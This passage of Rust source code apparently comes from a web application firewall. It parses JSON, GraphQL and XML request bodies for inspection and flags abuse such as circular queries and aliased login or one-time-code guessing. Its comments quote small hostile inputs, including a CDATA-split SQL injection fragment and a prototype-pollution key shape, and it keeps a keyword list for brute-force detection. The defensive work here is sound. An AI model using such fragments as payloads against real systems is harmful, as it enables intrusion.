        Some(Tok::Obj(end, _)) => {
            let mut map = serde_json::Map::new();
            let mut j = i + 1;
            while j < *end {
                let Some(Tok::Key(k)) = tape.get(j) else {
                    break;
                };
                map.insert(k.to_string(), tape_value(tape, j + 1));
                j = tape_next(tape, j + 1);
            }
            Json::Object(map)
        }
        Some(Tok::Arr(end, _)) => {
            let mut items = Vec::new();
            let mut j = i + 1;
            while j < *end {
                items.push(tape_value(tape, j));
                j = tape_next(tape, j);
            }
            Json::Array(items)
        }
        Some(Tok::Str(s, _) | Tok::Key(s)) => Json::String(s.to_string()),
        Some(Tok::Num(n)) => Json::Number(n.clone()),
        Some(Tok::Int(t)) => t
            .parse::<i64>()
            .map_or(Json::Null, |n| Json::Number(n.into())),
        Some(Tok::Dec(t)) => serde_json::from_str(t).unwrap_or(Json::Null),
        Some(Tok::Bool(b)) => Json::Bool(*b),
        Some(Tok::Null) | None => Json::Null,
    }
}

fn parse_json(req: &mut InspectedRequest, body: &[u8]) -> bool {
    parse_json_document(req, body, false)
}

/// [`parse_json`]; with `skeleton`, `BODY` is then judged as the document's skeleton (see
/// [`json_skeleton`]) when every key and value of it was pushed as an argument (none dropped
/// by the argument limit, no key repeated).
fn parse_json_document(req: &mut InspectedRequest, body: &[u8], skeleton: bool) -> bool {
    let Some(tape) = json_tape(body) else {
        // A JSON Lines body sent as `application/json` (Elasticsearch's `_bulk` accepts
        // both): one document per line.
        if is_json_lines(body) {
            return parse_json_lines(req, body);
        }
        req.add_anomaly(Anomaly::JsonInvalid);
        return false;
    };
    // A key makes at most one item (its name), a scalar one (its value); the argument bound
    // caps both.
    let bound = req.limits().max_args.saturating_mul(2);
    req.reserve_body_items(tape.len().min(bound) + 1);
    let mut walk = JsonWalk::new(body, &tape, String::with_capacity(64), false, Origin::Json);
    walk.spans = true;
    let whole = walk.value(req, 0, 0) && !walk.dropped;
    if skeleton && whole {
        if let Some(view) = json_skeleton(body, &tape) {
            req.judge_body_as(&view);
        }
    }
    true
}

/// Strings of a JSON document up to this many bytes stay in its skeleton; longer ones are
/// emptied.
const SKELETON_MAX_STRING: usize = 16;

/// The skeleton of the document `body`, read into `tape`: the bytes as received with the
/// content of every string value longer than [`SKELETON_MAX_STRING`] (decoded) taken out
/// (`""` left); `None` when no string is that long (the body is its own skeleton).
///
/// `BODY` of a JSON document whose every key and value was judged as an argument is judged
/// as this skeleton: what the arguments do not show is how keys nest and which key holds
/// which operand (`{"constructor":{"prototype":…}}`, `{"$type":"string"}`), and that stays;
/// the text of long values was judged already, under its name, and judging it a second time
/// within the whole body cost more than all the rest of it (a 4 KB order of product
/// descriptions, a package's README: most of its bytes).
fn json_skeleton(body: &[u8], tape: &[Tok<'_>]) -> Option<Vec<u8>> {
    let mut out = Vec::new();
    let mut at = 0;
    for t in tape {
        let Tok::Str(s, raw) = t else {
            continue;
        };
        if s.len() <= SKELETON_MAX_STRING || raw.start < at || raw.end > body.len() {
            continue;
        }
        if out.is_empty() {
            out.reserve(body.len() / 2);
        }
        out.extend_from_slice(body.get(at..raw.start).unwrap_or_default());
        at = raw.end;
    }
    if out.is_empty() {
        return None;
    }
    out.extend_from_slice(body.get(at..).unwrap_or_default());
    Some(out)
}

/// Whether a body that is not one JSON document holds several, one per line (JSON Lines,
/// NDJSON): two lines or more, the first an object or an array.
fn is_json_lines(body: &[u8]) -> bool {
    let mut lines = body
        .split(|&b| b == b'\n')
        .map(json_line)
        .filter(|l| !l.is_empty());
    matches!(lines.next(), Some([b'{' | b'[', ..])) && lines.next().is_some()
}

/// One line of a JSON Lines body without surrounding whitespace (and the record separator
/// `U+001E` that starts each record of `application/json-seq`, RFC 7464).
fn json_line(line: &[u8]) -> &[u8] {
    let line = line.trim_ascii();
    line.strip_prefix(b"\x1e").unwrap_or(line).trim_ascii()
}

/// A JSON Lines body (`application/x-ndjson`, `jsonl`, `json-seq`; an Elasticsearch
/// `_bulk` request, a log shipper's batch): each line is a document, walked as if the lines
/// were the elements of one array (`BODY:json.[3].doc.title`, as for a top-level array). A
/// line that is not JSON makes the body invalid (inspected raw, as a broken JSON body is).
fn parse_json_lines(req: &mut InspectedRequest, body: &[u8]) -> bool {
    let mut n = 0usize;
    for line in body.split(|&b| b == b'\n').map(json_line) {
        if line.is_empty() {
            continue;
        }
        let Some(tape) = json_tape(line) else {
            req.add_anomaly(Anomaly::JsonInvalid);
            return false;
        };
        let mut walk = JsonWalk::new(body, &tape, String::with_capacity(64), false, Origin::Json);
        push_index(&mut walk.path, n);
        if !walk.value(req, 0, 1) {
            break;
        }
        n += 1;
    }
    true
}

/// Whether a JSON string holds urlencoded form data (`_csrf_token=…&poll%5Bname%5D=Ann+Lee`:
/// Phoenix LiveView's form events, jQuery's `serialize()` posted inside JSON): two pairs or
/// more, no byte a form-encoded string never has (spaces, quotes, braces, line breaks), and a
/// first name of name characters (so a URL with a query, `https://x/?a=1&b=2`, is not one).
fn looks_like_form(s: &[u8]) -> bool {
    // Most strings are short and hold no `&`: a branch-free scan, not a searcher's setup.
    if !s.iter().fold(false, |any, &b| any | (b == b'&')) {
        return false;
    }
    let Some(eq) = memchr::memchr(b'=', s) else {
        return false;
    };
    let name = s.get(..eq).unwrap_or_default();
    !name.is_empty()
        && name.iter().all(|&b| {
            b.is_ascii_alphanumeric() || matches!(b, b'_' | b'-' | b'.' | b'[' | b']' | b'%')
        })
        && !s.iter().any(|&b| {
            matches!(
                b,
                b' ' | b'\t' | b'\r' | b'\n' | b'"' | b'<' | b'>' | b'{' | b'}'
            )
        })
}

/// The pairs of form data found in a JSON string (see [`looks_like_form`]), decoded as the
/// application will decode them, pushed as more values under `path.name` with their names.
/// Returns false when the argument limit stops it.
fn form_in_string(req: &mut InspectedRequest, origin: Origin, path: &str, s: &[u8]) -> bool {
    let mut name_path = String::with_capacity(path.len() + 16);
    for (name, value) in parse_pairs(s, b'&') {
        name_path.clear();
        name_path.push_str(path);
        name_path.push('.');
        name_path.push_str(&String::from_utf8_lossy(&name));
        if !req.push_body_arg(origin, &name_path, Some(&name), &value) {
            return false;
        }
    }
    true
}

/// A form or multipart field whose value is a JSON document (`filter={"where":{"url":"…"}}`): the
/// document's values are pushed too, under the field's name (`filter.where.url`), as for a
/// JSON string holding one. Returns false when the argument limit stops it.
fn json_in_field(req: &mut InspectedRequest, origin: Origin, name: &str, value: &[u8]) -> bool {
    if !may_hold_json_bytes(value) {
        return true;
    }
    let Some(tape) = json_tape(value) else {
        return true;
    };
    let mut walk = JsonWalk::new(&[], &tape, name.to_string(), true, origin);
    walk.value(req, 0, 1)
}

/// Whether a value may hold a JSON document of its own (a JSON string `"settings":
/// "{\"include\": \"http://x/\"}"`, a query argument or field `filter={"where":…}`): starts and
/// ends like one. The document's values are then inspected as arguments too, under the
/// value's name, so rules anchored at a value's start see them.
/// (The bytes alone decide: the parse that follows checks UTF-8, so the values of every
/// argument need not be checked for it here.)
pub(crate) fn may_hold_json_bytes(v: &[u8]) -> bool {
    let t = v.trim_ascii();
    matches!(
        (t.first(), t.last()),
        (Some(b'{'), Some(b'}')) | (Some(b'['), Some(b']'))
    )
}

/// See [`may_hold_json_bytes`].
fn may_hold_json(s: &str) -> bool {
    may_hold_json_bytes(s.as_bytes())
}

/// `s` as a range of `body` when it lies in it (a JSON string without escapes), else a copy.
fn body_bytes<'s>(body: &[u8], s: &'s str) -> BodyBytes<'s> {
    let off = (s.as_ptr() as usize).wrapping_sub(body.as_ptr() as usize);
    match off.checked_add(s.len()) {
        Some(end) if end <= body.len() => BodyBytes::At(off..end),
        _ => BodyBytes::Copy(s.as_bytes()),
    }
}

/// `a.cmp(b)`, deciding on the first bytes alone when they differ (most keys of an object
/// do), without a call to compare the rest.
fn key_cmp(a: &str, b: &str) -> std::cmp::Ordering {
    match (a.as_bytes().first(), b.as_bytes().first()) {
        (Some(x), Some(y)) if x != y => x.cmp(y),
        _ => a.cmp(b),
    }
}

/// Appends `[n]` (what `write!(path, "[{n}]")` writes, without the formatting machinery).
fn push_index(path: &mut String, mut n: usize) {
    let mut digits = [0u8; 20];
    let mut at = digits.len();
    loop {
        at -= 1;
        if let Some(d) = digits.get_mut(at) {
            *d = b'0' + (n % 10) as u8;
        }
        n /= 10;
        if n == 0 || at == 0 {
            break;
        }
    }
    path.push('[');
    for &d in digits.get(at..).unwrap_or_default() {
        path.push(char::from(d));
    }
    path.push(']');
}

/// The state of one walk over a tape.
struct JsonWalk<'t, 'a> {
    /// The request body the tape was read from: strings borrowed from it become ranges.
    body: &'t [u8],
    tape: &'t [Tok<'a>],
    path: String,
    /// (key, value index) of the objects being walked, innermost last; each object sorts
    /// its own range.
    entries: Vec<(&'t str, usize)>,
    /// Scratch for number text.
    text: String,
    /// Whether this tape is a JSON document found inside a string of another (which is
    /// not looked into again).
    nested: bool,
    /// What the items are labelled as (`json`; `form` or `multipart` for a field holding
    /// JSON).
    origin: Origin,
    /// Whether a repeated key's earlier value was left out (only the last is pushed).
    dropped: bool,
    /// Whether its objects and arrays are recorded as [`crate::request::BodySpan`]s (the
    /// request's own JSON document, whose tape offsets are the body's).
    spans: bool,
}

impl<'t, 'a> JsonWalk<'t, 'a> {
    /// A walk of `tape` (read from `body`, or from a string of it) whose items are named
    /// under `path`.
    fn new(
        body: &'t [u8],
        tape: &'t [Tok<'a>],
        path: String,
        nested: bool,
        origin: Origin,
    ) -> Self {
        JsonWalk {
            body,
            tape,
            path,
            entries: Vec::with_capacity(32),
            text: String::new(),
            nested,
            origin,
            dropped: false,
            spans: false,
        }
    }
}

impl<'t> JsonWalk<'t, '_> {
    /// Visits every key and every scalar value of the value at `i`. Returns false when the
    /// argument limit stops it.
    fn value(&mut self, req: &mut InspectedRequest, i: usize, depth: usize) -> bool {
        if depth > req.limits().max_depth {
            req.note_depth_cut();
            let text = tape_value(self.tape, i).to_string();
            return req.push_body_arg(self.origin, &self.path, None, text.as_bytes());
        }
        let tape: &'t [Tok<'_>] = self.tape;
        let (object, end, raw) = match tape.get(i) {
            Some(Tok::Obj(end, raw)) => (true, *end, raw),
            Some(Tok::Arr(end, raw)) => (false, *end, raw),
            _ => return self.scalar(req, i, None, depth),
        };
        // (Only containers that can be spans: small, of two items or more.)
        if !(self.spans && raw.len() <= MAX_SPAN_BYTES && end >= i + 3) {
            return self.container(req, i, object, end, depth);
        }
        let open = req.open_body_span(raw.clone());
        let ok = self.container(req, i, object, end, depth);
        req.close_body_span(open, &self.path, ok);
        ok
    }

    /// The object (`object`) or array at `i`, whose tokens end at `end`.
    fn container(
        &mut self,
        req: &mut InspectedRequest,
        i: usize,
        object: bool,
        end: usize,
        depth: usize,
    ) -> bool {
        if object {
            return self.object(req, i + 1, end, depth);
        }
        let (mut j, mut n) = (i + 1, 0usize);
        while j < end {
            let len = self.path.len();
            push_index(&mut self.path, n);
            let ok = self.value(req, j, depth + 1);
            self.path.truncate(len);
            if !ok {
                return false;
            }
            j = tape_next(self.tape, j);
            n += 1;
        }
        true
    }

    /// The entries of the object whose tokens are `start..end`, in key order, a repeated key
    /// once with its last value.
    fn object(
        &mut self,
        req: &mut InspectedRequest,
        start: usize,
        end: usize,
        depth: usize,
    ) -> bool {
        let base = self.entries.len();
        let tape: &'t [Tok<'_>] = self.tape;
        let mut j = start;
        while j < end {
            let key = match tape.get(j) {
                Some(Tok::Key(k)) => k.as_ref(),
                _ => "",
            };
            let v = j + 1;
            self.entries.push((key, v));
            j = tape_next(tape, v);
        }
        if let Some(mine) = self.entries.get_mut(base..) {
            // Stable: of equal keys the last in the document stays last.
            if !mine.is_sorted_by(|a, b| key_cmp(a.0, b.0).is_lt()) {
                mine.sort_by(|a, b| key_cmp(a.0, b.0));
            }
        }
        let mut ok = true;
        let mut e = base;
        while let Some(&(k, v)) = self.entries.get(e) {
            e += 1;
            if self
                .entries
                .get(e)
                .is_some_and(|&(k2, _)| key_cmp(k2, k).is_eq())
            {
                req.add_anomaly(Anomaly::JsonDuplicateKey);
                self.dropped = true;
                continue;
            }
            let len = self.path.len();
            if !self.path.is_empty() {
                self.path.push('.');
            }
            self.path.push_str(k);
            ok = match tape.get(v) {
                Some(Tok::Obj(..) | Tok::Arr(..)) => {
                    // The key itself is inspected as a name, and counts as an argument (a
                    // document of empty objects has keys only).
                    if req.take_arg() {
                        req.push_body_item_bytes(
                            Part::ArgPostName,
                            self.origin,
                            &self.path,
                            body_bytes(self.body, k),
                        );
                        self.value(req, v, depth + 1)
                    } else {
                        false
                    }
                }
                _ => self.scalar(req, v, Some(k), depth + 1),
            };
            self.path.truncate(len);
            if !ok {
                break;
            }
        }
        self.entries.truncate(base);
        ok
    }

    /// A string, number, boolean or null, with the key that holds it (none in arrays), at
    /// `depth`.
    fn scalar(
        &mut self,
        req: &mut InspectedRequest,
        i: usize,
        key: Option<&str>,
        depth: usize,
    ) -> bool {
        let path = &self.path;
        let key = key.map(|k| body_bytes(self.body, k));
        let copy = |b: &'static [u8]| BodyBytes::Copy(b);
        match self.tape.get(i) {
            Some(Tok::Str(s, _)) => {
                let value = body_bytes(self.body, s);
                if !req.push_body_arg_bytes(self.origin, path, key, value) {
                    return false;
                }
                if looks_like_graphql(path, s) {
                    return graphql_strings(req, path, s.as_bytes());
                }
                if !self.nested && may_hold_json(s) {
                    if let Some(inner) = json_tape(s.as_bytes()) {
                        let mut walk =
                            JsonWalk::new(self.body, &inner, self.path.clone(), true, self.origin);
                        return walk.value(req, 0, depth + 1);
                    }
                }
                if !self.nested && looks_like_form(s.as_bytes()) {
                    return form_in_string(req, self.origin, path, s.as_bytes());
                }
                if !self.nested && s.len() >= MIN_BASE64_ARG {
                    return text_in_field(req, self.origin, path, s.as_bytes(), false, true);
                }
                true
            }
            Some(Tok::Int(t) | Tok::Dec(t)) => {
                let value = body_bytes(self.body, t);
                req.push_body_arg_bytes(self.origin, path, key, value)
            }
            Some(Tok::Num(n)) => {
                self.text.clear();
                let _ = write!(self.text, "{n}");
                let value = BodyBytes::Copy(self.text.as_bytes());
                req.push_body_arg_bytes(self.origin, path, key, value)
            }
            Some(Tok::Bool(b)) => {
                let value = copy(if *b { b"true" } else { b"false" });
                req.push_body_arg_bytes(self.origin, path, key, value)
            }
            Some(Tok::Null) => req.push_body_arg_bytes(self.origin, path, key, copy(b"null")),
            // Containers are walked by the caller; reaching here means a bug, not bad input.
            Some(Tok::Obj(..) | Tok::Arr(..) | Tok::Key(_)) | None => true,
        }
    }
}

// === GraphQL ===

fn looks_like_graphql(path: &str, s: &str) -> bool {
    if !(path == "query" || path.ends_with(".query")) {
        return false;
    }
    let t = s.trim_start();
    t.starts_with('{') || t.starts_with("query") || t.starts_with("mutation")
}

/// What a GraphQL document costs a server to run, read from its syntax: selection-set
/// depth, aliases and directives (outside strings, comments and argument lists).
#[derive(Debug, Default, PartialEq, Eq)]
struct GraphqlShape {
    depth: usize,
    aliases: usize,
    directives: usize,
    /// The most aliases of one sign-in, one-time-code or redemption field
    /// ([`guessing_field`]).
    repeated_login: usize,
    /// Sign-in, one-time-code or redemption fields selected at the top of an operation,
    /// aliased or not: counted over the documents of a batch.
    top_guesses: usize,
    /// A field selected inside itself through other fields, again and again
    /// (`pools { token0 { pools { token0 { …`): see [`MAX_CYCLE_REPEATS`].
    circular: bool,
    /// A fragment that spreads itself, directly or through others.
    fragment_cycle: bool,
}

/// How often one field may appear on one path of nested selections with other fields between
/// (`author { posts { author { posts {`) before the document is a circular query: each turn
/// of the cycle multiplies what the server fetches (`first: 1000` at every level). A field
/// nested directly in itself (`children { children {`, a tree) and the connection wrappers
/// (`edges`, `node`) do not count; the depth limit bounds those.
const MAX_CYCLE_REPEATS: usize = 3;

/// Fragments and spreads remembered per document to look for a cycle (more are ignored).
const MAX_FRAGMENTS: usize = 64;

/// How many aliases of one sign-in, one-time-code or redemption field make a document a
/// guessing run ([`Anomaly::GraphqlRepeatedLogin`]): a client signs in once; asking a
/// login or a coupon five times in one document is trying five secrets.
const MAX_LOGIN_ALIASES: usize = 4;

/// A field that checks a secret the client supplies: a password, a one-time or reset code,
/// a coupon or gift card.
fn guessing_field(name: &[u8]) -> bool {
    let name = name.to_ascii_lowercase();
    [
        &b"login"[..],
        b"logon",
        b"signin",
        b"authenticate",
        b"password",
        b"otp",
        b"mfa",
        b"2fa",
        b"totp",
        b"verifycode",
        b"verifyotp",
        b"redeem",
        b"coupon",
        b"voucher",
        b"giftcard",
        b"promocode",
        b"discountcode",
        b"resetcode",
        b"twofactor",
        b"passcode",
        b"securitycode",
        b"verificationcode",
        b"recoverycode",
        b"backupcode",
    ]
    .iter()
    .any(|w| memchr::memmem::find(&name, w).is_some())
}

/// One pass over the document's punctuation. An alias is `name: field` in a selection set;
/// the same shape inside parentheses is an argument or a variable definition, and does not
/// count. Strings (`"…"`, `"""…"""`) and `#` comments are skipped.
fn graphql_shape(doc: &[u8]) -> GraphqlShape {
    let mut shape = GraphqlShape::default();
    let (mut braces, mut parens) = (0usize, 0usize);
    // Whether the last token was a name (an alias candidate before `:`).
    let mut after_name = false;
    // Whether the next name is an aliased field, and how often each guessing field was.
    let mut aliased = false;
    let mut guessed: Vec<(Vec<u8>, usize)> = Vec::new();
    // The field each open selection set belongs to (empty for an operation's or a
    // fragment's own), and the last field name read outside arguments.
    let mut fields: Vec<&[u8]> = Vec::new();
    let mut last_field: &[u8] = b"";
    // The next name is a spread's fragment (after `...`), a type condition (after `... on`),
    // a directive's (after `@`), or the name of a fragment being defined.
    let (mut spread, mut skip_name, mut fragment_name) = (false, false, false);
    let mut fragment: Option<&[u8]> = None;
    let mut defined: Vec<&[u8]> = Vec::new();
    let mut spreads: Vec<(&[u8], &[u8])> = Vec::new();
    let mut i = 0;
    while let Some(&b) = doc.get(i) {
        match b {
            b'#' => {
                i += memchr::memchr(b'\n', doc.get(i..).unwrap_or_default()).unwrap_or(doc.len());
                continue;
            }
            b'"' => {
                i = skip_graphql_string(doc, i);
                after_name = false;
                continue;
            }
            b'{' => {
                if parens == 0 {
                    let field = if braces == 0 { &b""[..] } else { last_field };
                    if circular_step(&fields, field) {
                        shape.circular = true;
                    }
                    if fields.len() < 64 {
                        fields.push(field);
                    }
                    last_field = b"";
                }
                braces += 1;
                shape.depth = shape.depth.max(braces);
                after_name = false;
            }
            b'}' => {
                braces = braces.saturating_sub(1);
                if parens == 0 {
                    fields.truncate(braces.min(fields.len()));
                    last_field = b"";
                }
                if braces == 0 {
                    fragment = None;
                }
                after_name = false;
            }
            b'.' if doc.get(i..i + 3) == Some(b"...") => {
                spread = true;
                after_name = false;
                i += 3;
                continue;
            }
            b'(' => {
                parens += 1;
                after_name = false;
            }
            b')' => {
                parens = parens.saturating_sub(1);
                after_name = false;
            }
            b':' => {
                if after_name && parens == 0 && braces > 0 {
                    shape.aliases += 1;
                    aliased = true;
                }
                after_name = false;
                i += 1;
                continue;
            }
            b'@' => {
                if doc
                    .get(i + 1)
                    .is_some_and(|c| c.is_ascii_alphabetic() || *c == b'_')
                {
                    shape.directives += 1;
                    skip_name = true;
                }
                after_name = false;
            }
            b if b.is_ascii_alphanumeric() || b == b'_' => {
                let start = i;
                while doc
                    .get(i)
                    .is_some_and(|c| c.is_ascii_alphanumeric() || *c == b'_')
                {
                    i += 1;
                }
                let name = doc.get(start..i).unwrap_or_default();
                if std::mem::take(&mut spread) {
                    if name == b"on" {
                        skip_name = true;
                    } else if let Some(f) = fragment.filter(|_| spreads.len() < 4 * MAX_FRAGMENTS) {
                        spreads.push((f, name));
                    }
                    aliased = false;
                    after_name = false;
                    continue;
                }
                if std::mem::take(&mut skip_name) {
                    aliased = false;
                    after_name = false;
                    continue;
                }
                if braces == 0 {
                    // (Outside variable definitions: `($fragment: String)` defines none.)
                    if parens == 0 && std::mem::take(&mut fragment_name) {
                        if defined.len() < MAX_FRAGMENTS {
                            defined.push(name);
                        }
                        fragment = Some(name);
                    } else if parens == 0 && name == b"fragment" {
                        fragment_name = true;
                    }
                    after_name = true;
                    continue;
                }
                if parens == 0 {
                    last_field = name;
                    if braces == 1 && guessing_field(name) {
                        shape.top_guesses += 1;
                    }
                }
                if std::mem::take(&mut aliased) && guessing_field(name) {
                    // (A handful of distinct fields at most: the list stays short.)
                    let count = if let Some((_, c)) = guessed.iter_mut().find(|(n, _)| n == name) {
                        *c += 1;
                        *c
                    } else if guessed.len() < 16 {
                        guessed.push((name.to_vec(), 1));
                        1
                    } else {
                        0
                    };
                    shape.repeated_login = shape.repeated_login.max(count);
                }
                after_name = true;
                continue;
            }
            b' ' | b'\t' | b'\n' | b'\r' | b',' => {
                i += 1;
                continue;
            }
            _ => after_name = false,
        }
        aliased = false;
        i += 1;
    }
    shape.fragment_cycle = fragment_cycle(&defined, &spreads);
    shape
}

/// Whether opening the selection set of `field` under the open ones (`fields`, outermost
/// first) makes the path circular: `field` is already on it [`MAX_CYCLE_REPEATS`] times, and
/// is not nested directly in itself nor a connection wrapper.
fn circular_step(fields: &[&[u8]], field: &[u8]) -> bool {
    const WRAPPERS: &[&[u8]] = &[b"edges", b"node", b"nodes", b"items", b"data", b"results"];
    if field.is_empty() || WRAPPERS.contains(&field) || fields.last() == Some(&field) {
        return false;
    }
    fields.iter().filter(|f| **f == field).count() >= MAX_CYCLE_REPEATS
}

/// Whether the spreads between the fragments defined in a document (`(in, spread)` pairs)
/// form a cycle: fragments that spread no fragment still left are removed until none is left,
/// or every one left spreads another one left — which, in a finite set, is a cycle. (At most
/// [`MAX_FRAGMENTS`] fragments and four times as many spreads: a few thousand steps.)
fn fragment_cycle(defined: &[&[u8]], spreads: &[(&[u8], &[u8])]) -> bool {
    let index = |name: &[u8]| defined.iter().position(|d| *d == name);
    let edges: Vec<(usize, usize)> = spreads
        .iter()
        .filter_map(|(from, to)| Some((index(from)?, index(to)?)))
        .collect();
    let mut left = vec![true; defined.len()];
    loop {
        let mut leads_on = vec![false; defined.len()];
        for &(from, to) in &edges {
            if left.get(to) == Some(&true) {
                if let Some(l) = leads_on.get_mut(from) {
                    *l = true;
                }
            }
        }
        let mut removed = false;
        for (l, on) in left.iter_mut().zip(&leads_on) {
            if *l && !on {
                *l = false;
                removed = true;
            }
        }
        if !left.contains(&true) {
            return false;
        }
        if !removed {
            return true;
        }
    }
}

/// The index after the string literal that starts at `i` (a `"` or `"""`).
fn skip_graphql_string(doc: &[u8], i: usize) -> usize {
    if doc.get(i..i + 3) == Some(b"\"\"\"") {
        return match memchr::memmem::find(doc.get(i + 3..).unwrap_or_default(), b"\"\"\"") {
            Some(end) => i + 3 + end + 3,
            None => doc.len(),
        };
    }
    let mut j = i + 1;
    while let Some(&c) = doc.get(j) {
        match c {
            b'\\' => j += 2,
            b'"' => return j + 1,
            _ => j += 1,
        }
    }
    doc.len()
}

/// Adds every string literal of a GraphQL document as its own value, so an injection in a
/// GraphQL argument is judged on its own rather than inside the query's syntax; and flags a
/// document (or a batch of them) past the GraphQL limits.
fn graphql_strings(req: &mut InspectedRequest, path: &str, doc: &[u8]) -> bool {
    let shape = graphql_shape(doc);
    let limits = req.limits();
    let over = [
        (
            shape.depth > limits.graphql_max_depth,
            Anomaly::GraphqlTooDeep,
        ),
        (
            shape.aliases > limits.graphql_max_aliases,
            Anomaly::GraphqlTooManyAliases,
        ),
        (
            shape.directives > limits.graphql_max_directives,
            Anomaly::GraphqlTooManyDirectives,
        ),
        (
            shape.repeated_login > MAX_LOGIN_ALIASES,
            Anomaly::GraphqlRepeatedLogin,
        ),
        (shape.circular, Anomaly::GraphqlCircular),
        (shape.fragment_cycle, Anomaly::GraphqlFragmentCycle),
    ];
    let max_batch = limits.graphql_max_batch;
    for (hit, a) in over {
        if hit {
            req.add_anomaly(a);
        }
    }
    let (docs, guesses) = req.count_graphql_doc(shape.top_guesses);
    if docs > max_batch {
        req.add_anomaly(Anomaly::GraphqlBatchTooLarge);
    }
    // A batch that signs in (or tries a code) more often than one document may alias it.
    if docs > 1 && guesses > MAX_LOGIN_ALIASES {
        req.add_anomaly(Anomaly::GraphqlRepeatedLogin);
    }
    let mut i = 0;
    let mut n = 0;
    while let Some(&b) = doc.get(i) {
        if b == b'#' {
            // Comment to end of line.
            i += memchr::memchr(b'\n', doc.get(i..).unwrap_or_default()).unwrap_or(doc.len());
            continue;
        }
        if b != b'"' {
            i += 1;
            continue;
        }
        let block = doc.get(i..i + 3) == Some(b"\"\"\"");
        let start = if block { i + 3 } else { i + 1 };
        let mut j = start;
        let mut lit = Vec::new();
        loop {
            match doc.get(j) {
                None => break,
                Some(b'\\') if !block => {
                    if let Some(&c) = doc.get(j + 1) {
                        lit.push(c);
                    }
                    j += 2;
                }
                Some(b'"') if !block => {
                    j += 1;
                    break;
                }
                Some(b'"') if doc.get(j..j + 3) == Some(b"\"\"\"") => {
                    j += 3;
                    break;
                }
                Some(&c) => {
                    lit.push(c);
                    j += 1;
                }
            }
        }
        let name = format!("{path}.$str[{n}]");
        n += 1;
        if !req.push_body_arg(Origin::Graphql, &name, None, &lit) {
            return false;
        }
        i = j.max(i + 1);
    }
    true
}

// === XML ===

/// A tolerant, bounded XML scanner: text nodes, CDATA and attribute values become values
/// named by their element path (`order.item@id`). Processing instructions and the DOCTYPE
/// are not values (XXE rules read the raw `BODY`). Unbalanced tags are an anomaly and the
/// body is then inspected raw as well.
fn parse_xml(req: &mut InspectedRequest, body: &[u8]) -> bool {
    let max_depth = req.limits().max_depth;
    let end = walk_xml(body, max_depth, &mut |path, key, value| {
        req.push_body_arg(Origin::Xml, path, key, value)
    });
    match end {
        XmlEnd::Stopped => true,
        XmlEnd::TooDeep => {
            req.add_anomaly(Anomaly::TooDeep);
            false
        }
        XmlEnd::Read { well_formed } => {
            if !well_formed {
                req.add_anomaly(Anomaly::XmlInvalid);
            }
            well_formed
        }
    }
}

/// Whether the body is a well-formed XML document within the depth bound (a walk that keeps
/// nothing).
fn xml_well_formed(body: &[u8], max_depth: usize) -> bool {
    walk_xml(body, max_depth, &mut |_, _, _| true) == XmlEnd::Read { well_formed: true }
}

/// What [`walk_xml`] gives each value to: `(path, attribute name, value)`; false stops it.
pub(crate) type XmlEmit<'a> = dyn FnMut(&str, Option<&[u8]>, &[u8]) -> bool + 'a;

/// How a walk over an XML document ended.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub(crate) enum XmlEnd {
    /// Read to its end; `well_formed` unless tags did not balance, text stood outside the
    /// root, or there was no element.
    Read { well_formed: bool },
    /// Nesting went past the depth bound; what came before was given.
    TooDeep,
    /// The callback asked to stop (an argument limit).
    Stopped,
}

/// Gives every text node (CDATA included) and attribute value of an XML document to `emit`
/// as `(path, name, value)`: `path` is the element path (`Envelope.Body.name`, an attribute
/// `…name@lang`), `name` the attribute's name for attribute values. Character references in
/// text and attribute values are resolved, as the application's parser would. `emit`
/// returns false to stop.
pub(crate) fn walk_xml(body: &[u8], max_depth: usize, emit: &mut XmlEmit<'_>) -> XmlEnd {
    fn path(stack: &[String]) -> String {
        stack.join(".")
    }
    /// Gives an element's character data gathered so far, trimmed, and empties it.
    fn flush(stack: &[String], text: &mut Vec<u8>, emit: &mut XmlEmit<'_>) -> bool {
        let value = crate::normalize::trim(text).into_owned();
        text.clear();
        value.is_empty() || emit(&path(stack), None, &value)
    }
    let mut stack: Vec<String> = Vec::new();
    let mut i = 0;
    let mut ok = true;
    let mut saw_element = false;
    // An element's character data up to its next tag: text and CDATA sections run together
    // (comments between them too), as parsers give them to the application (`<![CDATA[1'
    // UN]]><![CDATA[ION SELECT…]]>` is one value).
    let mut text: Vec<u8> = Vec::new();
    while i < body.len() {
        let rest = body.get(i..).unwrap_or_default();
        if rest.starts_with(b"<!--") {
            i += find_after(rest, b"-->").unwrap_or(rest.len());
            continue;
        }
        if rest.starts_with(b"<![CDATA[") {
            let inner = rest.get(9..).unwrap_or_default();
            let end = memchr::memmem::find(inner, b"]]>");
            text.extend_from_slice(inner.get(..end.unwrap_or(inner.len())).unwrap_or_default());
            i += 9 + end.map_or(inner.len(), |e| e + 3);
            continue;
        }
        if rest.first() == Some(&b'<') && !flush(&stack, &mut text, emit) {
            return XmlEnd::Stopped;
        }
        if rest.starts_with(b"<!") || rest.starts_with(b"<?") {
            i += skip_declaration(rest);
            continue;
        }
        if rest.starts_with(b"</") {
            let end = memchr::memchr(b'>', rest).unwrap_or(rest.len());
            let name = String::from_utf8_lossy(rest.get(2..end).unwrap_or_default())
                .trim()
                .to_string();
            match stack.pop() {
                Some(open) if open == name => {}
                _ => ok = false,
            }
            i += end + 1;
            continue;
        }
        if rest.first() == Some(&b'<') {
            let end = tag_end(rest);
            let tag = rest.get(1..end).unwrap_or_default();
            let self_closing = tag.last() == Some(&b'/');
            let tag = if self_closing {
                tag.get(..tag.len() - 1).unwrap_or_default()
            } else {
                tag
            };
            let name_len = tag
                .iter()
                .take_while(|&&b| !b.is_ascii_whitespace() && b != b'/')
                .count();
            let name =
                String::from_utf8_lossy(tag.get(..name_len).unwrap_or_default()).into_owned();
            if name.is_empty() {
                ok = false;
                i += 1;
                continue;
            }
            saw_element = true;
            let mut el_path = path(&stack);
            if !el_path.is_empty() {
                el_path.push('.');
            }
            el_path.push_str(&name);
            for (attr, value) in xml_attributes(tag.get(name_len..).unwrap_or_default()) {
                let n = format!("{el_path}@{attr}");
                // The application sees attribute values with references resolved.
                let value = crate::normalize::html_decode(&value).into_owned();
                if !emit(&n, Some(attr.as_bytes()), &value) {
                    return XmlEnd::Stopped;
                }
            }
            if !self_closing {
                if stack.len() >= max_depth {
                    return XmlEnd::TooDeep;
                }
                stack.push(name);
            }
            i += end + 1;
            continue;
        }
        // Text up to the next tag.
        let end = memchr::memchr(b'<', rest).unwrap_or(rest.len());
        let raw = rest.get(..end).unwrap_or_default();
        if stack.is_empty() && !raw.trim_ascii().is_empty() {
            ok = false;
